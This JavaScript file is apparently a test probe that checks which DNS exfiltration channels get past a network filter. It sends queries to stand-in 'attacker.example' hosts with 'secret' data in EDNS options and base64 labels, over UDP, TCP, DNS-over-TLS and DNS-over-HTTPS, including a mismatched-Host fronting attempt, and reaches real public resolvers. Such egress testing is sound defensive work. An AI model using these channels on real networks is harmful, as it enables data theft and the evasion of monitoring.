// The twin of `names.py`, from Node: the same arguments and output.
import { createSocket } from 'node:dgram';
import { lookup } from 'node:dns/promises';
import { connect } from 'node:net';
import { connect as connectTls } from 'node:tls';

const [listed, mark] = process.argv.slice(2);
const codes = ['NOERROR', 'FORMERR', 'SERVFAIL', 'NXDOMAIN', 'NOTIMP', 'REFUSED'];
const types = { A: 1, CNAME: 5, NULL: 10, PTR: 12, MX: 15, TXT: 16, AAAA: 28, SRV: 33, HTTPS: 65, ANY: 255 };

const short = (...values) => {
  const bytes = Buffer.alloc(2 * values.length);
  values.forEach((value, index) => bytes.writeUInt16BE(value, 2 * index));
  return bytes;
};

function question(name, kind, option = '') {
  const labels = name.split('.').map((label) => Buffer.from(`${String.fromCharCode(label.length)}${label}`));
  const head = short(process.pid & 0xffff, 0x0100, 1, 0, 0, option === '' ? 0 : 1);
  const asked = Buffer.concat([head, ...labels, Buffer.alloc(1), short(kind, 1)]);
  if (option === '') return asked;
  const data = Buffer.concat([short(65_001, option.length), Buffer.from(option)]);
  return Buffer.concat([asked, Buffer.alloc(1), short(41, 1232, 0, 0, data.length), data]);
}

function verdict(answer) {
  const code = codes[answer.readUInt16BE(2) & 15];
  const answers = answer.readUInt16BE(6);
  return answers > 0 ? `${code} with ${answers}` : code;
}

const silence = (ms) => new Promise((done) => setTimeout(() => done('silence'), ms));

const udp = (packet, server, port = 53) =>
  new Promise((done, fail) => {
    const socket = createSocket(server.includes(':') ? 'udp6' : 'udp4');
    socket.on('error', fail).on('message', (bytes) => {
      socket.close();
      done(verdict(bytes));
    });
    socket.send(packet, port, server, (error) => (error ? fail(error) : undefined));
  });

const tcp = (packet, server, port = 53) =>
  new Promise((done, fail) => {
    let heard = Buffer.alloc(0);
    const socket = connect(port, server).on('error', fail);
    socket.on('data', (bytes) => {
      heard = Buffer.concat([heard, bytes]);
      if (heard.length < 2 || heard.length < 2 + heard.readUInt16BE()) return;
      socket.destroy();
      done(verdict(heard.subarray(2)));
    });
    socket.write(Buffer.concat([short(packet.length), packet]));
  });

async function https(server, name, host) {
  if (!/^[\d.]+$/.test(server)) await lookup(server);
  return new Promise((done, fail) => {
    const refuse = () => fail(Object.assign(new Error(), { code: 'no TLS' }));
    const socket = connectTls({ host: server, port: 443, servername: name });
    socket.on('error', refuse).on('close', refuse);
    socket.once('data', (bytes) => done(String(bytes).split(' ')[1]));
    socket.write(`GET /dns-query?dns=${mark} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
  });
}

const asks = (prefix, kind) => () => udp(question(`${prefix}-${mark}.attacker.example`, kind), '192.0.2.53');
const attempts = {
  ...Object.fromEntries(Object.entries(types).map(([name, kind]) => [name, asks(name.toLowerCase(), kind)])),
  'EDNS payload': () => udp(question(`edns-${mark}.attacker.example`, 16, 'secret'.repeat(50)), '8.8.8.8'),
  'EDNS payload, large': () =>
    udp(question(`large-${mark}.attacker.example`, 16, 'secret'.repeat(100)), '8.8.8.8'),
  'over TCP': () => tcp(question(`tcp-${mark}.attacker.example`, 16), '8.8.4.4'),
  'over IPv6': () => tcp(question(`six-${mark}.attacker.example`, 16), '2001:4860:4860::8888'),
  'below a listed name': () => udp(question(`below-${mark}.${listed}`, 1), '192.0.2.53'),
  'as long as it may be': () =>
    udp(question(`long-${mark}.${'c2VjcmV0.'.repeat(20)}attacker.example`, 1), '192.0.2.53'),
  listed: () => udp(question(listed, 1), '192.0.2.53'),
  'listed, TXT': () => udp(question(listed, 16), '192.0.2.53'),
  'over TLS': () => tcp(question(`tls-${mark}.attacker.example`, 1), '8.8.8.8', 853),
  multicast: () => udp(question(`${mark}.local`, 1), '224.0.0.251', 5353),
  'over HTTPS, by name': () => https('dns.attacker.example', 'dns.attacker.example', 'dns.attacker.example'),
  'over HTTPS, by address': () => https('8.8.8.8', 'dns.google', 'dns.google'),
  'over HTTPS, as another host': () => https(listed, listed, 'dns.google'),
  'over HTTPS, listed': () => https(listed, listed, listed),
};

const outcomes = {};
for (const [name, attempt] of Object.entries(attempts)) {
  outcomes[name] = await Promise.race([attempt(), silence(name === 'multicast' ? 500 : 5_000)]).catch(
    (error) => (error.code === 'ENOTFOUND' ? 'no such name' : error.code),
  );
}
process.stdout.write(`${JSON.stringify(outcomes)}\n`, () => process.exit());
